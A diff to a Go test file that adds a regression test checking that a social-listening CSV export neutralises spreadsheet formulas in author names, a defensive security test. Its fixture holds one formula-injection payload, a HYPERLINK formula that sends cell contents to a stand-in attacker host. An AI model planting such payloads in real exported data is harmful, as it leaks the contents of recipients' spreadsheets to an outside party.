@@ -10,6 +10,8 @@ import (
 	"time"
 
 	"github.com/stormdesk/stormdesk/backend/demo"
+	"github.com/stormdesk/stormdesk/backend/inbox"
+	"github.com/stormdesk/stormdesk/backend/listening"
 	"github.com/stormdesk/stormdesk/backend/store"
 )
 
@@ -139,5 +141,37 @@ func TestConversationEngagementOnDemoData(t *testing.T) {
 	}
 	if _, err := ws.ConversationEngagement(ctx, AnalyticsRequest{Days: 0}, now); err == nil {
 		t.Error("a range of 0 days was accepted")
+	}
+}
+
+// TestListeningExportKeepsFormulasAsText: a web author whose display name is
+// a spreadsheet formula is exported as text, not as a formula a PR lead's
+// spreadsheet would run when opening the file.
+func TestListeningExportKeepsFormulasAsText(t *testing.T) {
+	ctx := context.Background()
+	now := time.Date(2026, 3, 11, 15, 0, 0, 0, time.UTC)
+	ws := openWS(t)
+	topic, err := ws.Store.SaveListeningTopic(ctx, store.ListeningTopic{Name: "Acme", Query: "acme", Enabled: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	evil := `=HYPERLINK("http://evil.example/?"&A1,"Acme support")`
+	m := listening.Mention{Source: listening.SourceMastodon, ExternalID: "1", URL: "https://m.example/@x/1", Author: evil,
+		AuthorURL: "@evil", Reach: 900, Text: "acme is down", Published: now.Add(-time.Hour), Replies: -1, Reactions: -1}
+	if _, err := ws.Store.SaveListeningBatch(ctx, store.ListeningBatch{TopicID: topic.ID, PolledAt: now,
+		Mentions: []store.ScoredMention{{Mention: m, Sentiment: inbox.SentimentNegative, Score: -0.8}}}); err != nil {
+		t.Fatal(err)
+	}
+	var b bytes.Buffer
+	req := ListeningAnalyticsRequest{Days: 7, TopicIDs: []int64{topic.ID}}
+	if err := ws.ExportListeningCSV(ctx, &b, "authors", req, now); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&b).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(rows) != 2 || rows[1][1] != "'"+evil || rows[1][2] != "'@evil" || rows[1][4] != "900" {
+		t.Errorf("authors CSV = %q; want the name and address as text ('), the reach as a number", rows)
 	}
 }
